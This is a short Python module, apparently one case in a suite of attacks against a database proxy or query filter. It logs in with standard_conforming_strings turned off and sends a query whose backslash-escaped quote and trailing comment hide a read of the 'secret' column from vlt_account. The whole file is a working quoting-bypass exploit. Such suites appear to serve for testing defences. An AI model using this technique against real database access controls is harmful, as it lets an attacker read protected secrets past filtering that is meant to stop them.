"""Turns standard strings off at startup, and hides a column in one."""

from attacks.frames import ask, query
from attacks.talking import Server

WANTS = "read"


def attack(server: Server) -> bytes:
    with server.login(options="-c standard_conforming_strings=off") as client:
        return ask(client, query(rb"SELECT '\'', secret FROM vlt_account --'"))
